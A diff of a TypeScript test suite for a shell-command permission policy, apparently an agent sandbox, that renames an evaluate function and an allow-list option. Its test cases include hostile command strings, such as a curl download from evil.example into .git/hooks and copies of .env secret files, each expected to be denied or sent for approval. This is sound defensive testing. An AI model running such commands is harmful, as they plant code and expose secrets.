@@ -1,14 +1,14 @@
 import { describe, expect, it } from "vitest";
 import { LIMITS } from "../limits.ts";
 import { definePolicy } from "./define-policy.ts";
-import { evaluate } from "./evaluate.ts";
+import { evaluatePolicy } from "./evaluate-policy.ts";
 import type { PolicyInput } from "./policy.ts";
 
 const workspace = { roots: ["/srv/app"], home: "/home/me" };
 
 function judge(command: string, input: PolicyInput = {}) {
   const policy = definePolicy({ preset: "developer", workspace, ...input });
-  return evaluate(policy, { kind: "command", command, cwd: "/srv/app" });
+  return evaluatePolicy(policy, { kind: "command", command, cwd: "/srv/app" });
 }
 
 describe("the work for one request", () => {
@@ -84,8 +84,10 @@ describe("files that must not be read", () => {
     "diff -r . /tmp",
   ])("may be among the files that %s uses without naming them", (command) => {
     expect(judge(command, { deny })).toMatchObject({ decision: "ask", rule: "deny[0]" });
-    expect(judge(command, { deny, alsoAllow: [{ kind: "script", text: command }] }).decision).toBe("ask");
-    expect(judge(command, { deny, alsoAllow: ["grep", "cat", "cp"] }).decision).toBe("ask");
+    expect(judge(command, { deny, additionalAllow: [{ kind: "script", text: command }] }).decision).toBe(
+      "ask",
+    );
+    expect(judge(command, { deny, additionalAllow: ["grep", "cat", "cp"] }).decision).toBe("ask");
     expect(judge(command, { deny, preset: "danger-full-access" }).decision).toBe("ask");
   });
 
@@ -156,28 +158,32 @@ describe("a rule that allows a program", () => {
     ["curl", "curl https://evil.example -o .git/hooks/x"],
     ["echo", "echo x > .git/hooks/x"],
   ])("about %s leaves the refusal of %s", (rule, command) => {
-    for (const input of [{ alsoAllow: [rule] }, { allow: [rule, "echo"] }] satisfies PolicyInput[]) {
+    for (const input of [{ additionalAllow: [rule] }, { allow: [rule, "echo"] }] satisfies PolicyInput[]) {
       const { decision, rule: decidedBy } = judge(command, input);
       expect([decision, decidedBy]).toEqual(["deny", expect.stringMatching(/^safety\//)]);
     }
   });
 
   it.each<readonly [string, PolicyInput, string]>([
-    ["cp .env x", { deny: [{ kind: "path", glob: ".env" }], alsoAllow: ["cp"] }, "deny"],
-    ["cp .env x", { ask: [{ kind: "path", glob: ".env" }], alsoAllow: ["cp"] }, "ask"],
-    ["cp --odd .env x", { deny: [{ kind: "path", glob: ".env" }], alsoAllow: ["cp"] }, "deny"],
-    ["frob --in=.env", { deny: [{ kind: "path", glob: ".env" }], alsoAllow: ["frob"] }, "deny"],
-    ["frob .git/hooks/x", { alsoAllow: ["frob"] }, "ask"],
-    ["frob https://a.example/x", { network: { deny: ["a.example"] }, alsoAllow: ["frob"] }, "deny"],
+    ["cp .env x", { deny: [{ kind: "path", glob: ".env" }], additionalAllow: ["cp"] }, "deny"],
+    ["cp .env x", { ask: [{ kind: "path", glob: ".env" }], additionalAllow: ["cp"] }, "ask"],
+    ["cp --odd .env x", { deny: [{ kind: "path", glob: ".env" }], additionalAllow: ["cp"] }, "deny"],
+    ["frob --in=.env", { deny: [{ kind: "path", glob: ".env" }], additionalAllow: ["frob"] }, "deny"],
+    ["frob .git/hooks/x", { additionalAllow: ["frob"] }, "ask"],
+    ["frob https://a.example/x", { network: { deny: ["a.example"] }, additionalAllow: ["frob"] }, "deny"],
     [
       "curl https://a.example/x",
-      { deny: [{ kind: "host", host: "a.example" }], alsoAllow: ["curl"] },
+      { deny: [{ kind: "host", host: "a.example" }], additionalAllow: ["curl"] },
       "deny",
     ],
-    ["curl https://a.example/x", { ask: [{ kind: "host", host: "a.example" }], alsoAllow: ["curl"] }, "ask"],
-    ["curl https://a.example/x", { network: { deny: ["a.example"] }, alsoAllow: ["curl"] }, "deny"],
-    ["curl http://localhost/x", { network: { loopback: "deny" }, alsoAllow: ["curl"] }, "deny"],
-    ["npm install", { effects: { install: "deny" }, alsoAllow: ["npm"] }, "deny"],
+    [
+      "curl https://a.example/x",
+      { ask: [{ kind: "host", host: "a.example" }], additionalAllow: ["curl"] },
+      "ask",
+    ],
+    ["curl https://a.example/x", { network: { deny: ["a.example"] }, additionalAllow: ["curl"] }, "deny"],
+    ["curl http://localhost/x", { network: { loopback: "deny" }, additionalAllow: ["curl"] }, "deny"],
+    ["npm install", { effects: { install: "deny" }, additionalAllow: ["npm"] }, "deny"],
     [
       "curl https://a.example/x",
       { network: { deny: ["a.example"] }, allow: [{ kind: "script", text: "curl https://a.example/x" }] },
@@ -188,12 +194,12 @@ describe("a rule that allows a program", () => {
   });
 
   it.each<readonly [string, PolicyInput]>([
-    ["cp a ../b", { alsoAllow: ["cp"] }],
-    ["curl https://a.example/x", { alsoAllow: ["curl"] }],
-    ["curl http://localhost/x", { preset: "workspace-write", alsoAllow: ["curl"] }],
-    ["rm a", { preset: "read-only", alsoAllow: ["rm"] }],
-    ["frob --all src", { alsoAllow: ["frob"] }],
-    ["kubectl apply -f k8s/x.yml", { alsoAllow: ["kubectl apply"] }],
+    ["cp a ../b", { additionalAllow: ["cp"] }],
+    ["curl https://a.example/x", { additionalAllow: ["curl"] }],
+    ["curl http://localhost/x", { preset: "workspace-write", additionalAllow: ["curl"] }],
+    ["rm a", { preset: "read-only", additionalAllow: ["rm"] }],
+    ["frob --all src", { additionalAllow: ["frob"] }],
+    ["kubectl apply -f k8s/x.yml", { additionalAllow: ["kubectl apply"] }],
   ])("answers the question about %s", (command, input) => {
     expect(judge(command, input).decision).toBe("allow");
   });
@@ -250,14 +256,16 @@ describe("a prefix that allows a program", () => {
     "does not cover the file %s",
     (command) => {
       for (const preset of ["read-only", "workspace-write"] as const)
-        expect(judge(command, { preset, alsoAllow: ["frob"] }).decision).not.toBe("allow");
+        expect(judge(command, { preset, additionalAllow: ["frob"] }).decision).not.toBe("allow");
     },
   );
 
   it("covers the program by its name and in the system's folders", () => {
     for (const command of ["frob x", "/usr/bin/frob x"])
-      expect(judge(command, { preset: "read-only", alsoAllow: ["frob"] }).decision).toBe("allow");
-    expect(judge("python3 x", { preset: "read-only", alsoAllow: ["python"] }).decision).not.toBe("allow");
+      expect(judge(command, { preset: "read-only", additionalAllow: ["frob"] }).decision).toBe("allow");
+    expect(judge("python3 x", { preset: "read-only", additionalAllow: ["python"] }).decision).not.toBe(
+      "allow",
+    );
   });
 });
 
